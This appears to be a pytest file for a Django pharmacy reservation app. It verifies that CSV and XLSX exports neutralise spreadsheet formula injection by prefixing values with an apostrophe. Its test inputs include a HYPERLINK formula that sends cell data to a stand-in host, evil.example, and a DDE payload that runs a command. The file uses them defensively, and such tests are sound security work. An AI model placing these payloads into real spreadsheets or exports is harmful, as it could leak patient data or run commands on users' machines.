"""Exports a pharmacist opens in Excel or LibreOffice run no formula typed by a patient (OWASP)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from collect import catalogue_io
from collect.models import Product, Reservation
from pharmacies.tenancy import pharmacy_scope

from .conftest import code

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2;"Voir")'


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    "typed",
    [HOSTILE, "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", "\t=1+1", "\r=1+1"],
)
def test_a_formula_typed_by_a_patient_is_plain_text_in_both_exports(
    patient_a, offers, admin_client_a, pharmacy_a, typed
):
    response = patient_a.send([f"{offers['a_toothpaste'].pk}:1"], last_name=typed)
    assert response.status_code == 303
    with pharmacy_scope(pharmacy_a):
        reservation = Reservation.objects.get()
    stored = reservation.last_name
    assert stored and stored[0] in "=+-@"  # kept as typed (whitespace trimmed by the form)

    rows = csv_rows(admin_client_a.get(reverse("reservations:index"), {"export": "csv"}))
    last_name = rows[0].index("Nom")
    assert rows[1][last_name] == "'" + stored
    assert rows[1][rows[0].index("Téléphone")] == "06 12 34 56 78"

    exported = admin_client_a.get(reverse("reservations:index"), {"export": "xlsx"})
    sheet_rows = xlsx_rows(b"".join(exported.streaming_content))
    assert sheet_rows[1][sheet_rows[0].index("Nom")] == "'" + stored


def test_catalogue_exports_neutralise_formulas_and_import_back_unchanged(products):
    Product.objects.create(code=code(9), name="-20 % gel douche", brand="=1+1")
    csv_rows_ = list(
        csv.reader(io.StringIO(catalogue_io.export_csv().decode("utf-8-sig")), delimiter=";")
    )
    row = next(r for r in csv_rows_ if r[0] == code(9))
    assert row[1:3] == ["'-20 % gel douche", "'=1+1"]
    workbook = catalogue_io.export_xlsx()
    row = next(r for r in xlsx_rows(workbook) if r[0] == code(9))
    assert row[1:3] == ["'-20 % gel douche", "'=1+1"]

    for data, name in ((workbook, "c.xlsx"), (catalogue_io.export_csv(), "c.csv")):
        report = catalogue_io.import_catalogue(data, name, dry_run=True)
        assert report.ok and (report.total, report.unchanged) == (4, 4)
